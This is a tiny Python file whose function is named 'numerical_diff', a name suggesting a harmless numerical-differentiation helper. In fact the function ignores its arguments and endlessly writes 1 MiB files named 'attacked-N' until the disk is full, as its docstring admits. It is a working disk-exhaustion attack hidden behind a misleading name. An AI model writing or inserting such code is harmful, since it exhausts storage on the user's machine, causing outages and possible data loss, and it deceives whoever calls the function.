"""Fills its folder with files until the disk is full."""

def numerical_diff(f, x):
    number = 0
    while True:
        number += 1
        with open(f'attacked-{number}', 'wb') as file:
            file.write(bytes(2**20))
